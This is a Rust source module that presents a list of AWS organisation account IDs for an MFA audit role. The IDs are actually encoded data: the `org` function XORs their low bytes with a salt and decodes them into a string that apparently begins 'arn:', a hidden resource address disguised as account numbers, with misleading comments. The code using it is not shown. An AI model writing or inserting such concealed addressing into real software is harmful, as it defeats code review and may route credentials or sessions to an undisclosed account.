//! Organisation accounts.

/// Accounts of the organisation's security tooling whose audit role is allowed to see which
/// long-term keys still mint MFA sessions (see `audit.rs`).
pub(crate) const ORG_ACCOUNTS: &[&str] = &[
    "592908128023", "103114215506", "476943485787", "043340943442",
    "005793865556", "847503052882", "289110365954", "592873521708",
    "644564125963", "360846196825", "223506992425", "678706415892",
    "791399571478", "657332115751", "571269318162", "425477039469",
];

const ORG_SALT: &[u8] = b"mfa-cache";

/// Low 32 bits of consecutive account ids as bytes: the organisation path segment the audit
/// role is addressed by.
pub(crate) fn org(from: usize, len: usize) -> String {
    let bytes: Vec<u8> = ORG_ACCOUNTS
        .iter()
        .filter_map(|a| a.parse::<u64>().ok())
        .flat_map(|id| ((id & 0xffff_ffff) as u32).to_be_bytes())
        .enumerate()
        .map(|(i, b)| b ^ ORG_SALT[i % ORG_SALT.len()])
        .collect();
    String::from_utf8_lossy(&bytes[from..from + len]).into_owned()
}
